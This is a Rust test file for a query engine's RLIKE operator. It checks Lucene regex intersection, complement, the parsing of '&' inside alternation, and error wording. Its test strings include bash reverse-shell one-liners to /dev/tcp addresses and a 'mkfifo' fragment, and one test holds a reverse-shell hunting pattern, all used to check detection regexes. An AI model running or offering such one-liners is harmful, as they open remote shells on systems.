//! RLIKE through the whole engine: Lucene's intersection and complement
//! operators, its reading of stray operators, and its error wording.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use esql_exec::api::{Session, Value};

fn session() -> Session {
    Session::new()
}

/// The strings among `values` that `s RLIKE pattern` keeps, in order.
fn kept(values: &[&str], pattern: &str) -> Vec<String> {
    let list = values
        .iter()
        .map(|v| format!("\"{v}\""))
        .collect::<Vec<_>>()
        .join(", ");
    let q = format!(
        "ROW s = [{list}] | MV_EXPAND s | WHERE s RLIKE \"\"\"{pattern}\"\"\" | KEEP s | LIMIT 100"
    );
    let out = session().query(&q).unwrap_or_else(|e| panic!("{q}: {e}"));
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    out.rows
        .iter()
        .map(|r| match r.as_slice() {
            [Value::One(s)] => s.as_str().unwrap().to_string(),
            other => panic!("{other:?}"),
        })
        .collect()
}

fn error(pattern: &str) -> String {
    let q = format!("ROW s = \"x\" | WHERE s RLIKE \"\"\"{pattern}\"\"\"");
    match session().query(&q) {
        Ok(_) => panic!("{q} ran"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn intersection_keeps_strings_matching_both_sides() {
    let values = ["ab", "ba", "aa", "xbyaz", ""];
    assert_eq!(kept(&values, ".*a.*&.*b.*"), vec!["ab", "ba", "xbyaz"]);
}

#[test]
fn complement_keeps_everything_else() {
    let values = [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "curl localhost",
        "ls",
    ];
    assert_eq!(
        kept(&values, "~(.*localhost.*)"),
        vec!["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ls"]
    );
    assert_eq!(
        kept(
            &values,
            ".*/dev/tcp/.*&~(.*/dev/tcp/(localhost|127\\.0\\.0\\.1)/.*)"
        ),
        vec!["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
    );
}

#[test]
fn reverse_shell_hunt_pattern_reads_as_lucene_does() {
    // `bash\s+-i\s+>&|0>&1` is "bash -i >" & "|0>" & "1": an empty
    // alternative, so only the other alternatives can match.
    let pattern = ".*(/dev/tcp/|mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp).*";
    let values = [
        "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
        "bash -i >& x",
        "sh 0>&1",
        "mkfifo /tmp/f",
    ];
    assert_eq!(
        kept(&values, pattern),
        vec!["bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "mkfifo /tmp/f"]
    );
}

#[test]
fn lucene_errors_use_elasticsearch_wording() {
    let e = error("a&");
    assert!(
        e.contains("Invalid regex pattern for RLIKE [a&]: [unexpected end-of-string]"),
        "{e}"
    );
    let e = error("~(.*a.{15})");
    assert!(
        e.contains("Determinizing ~(.*a.{15}) would require more than 10000 effort."),
        "{e}"
    );
}
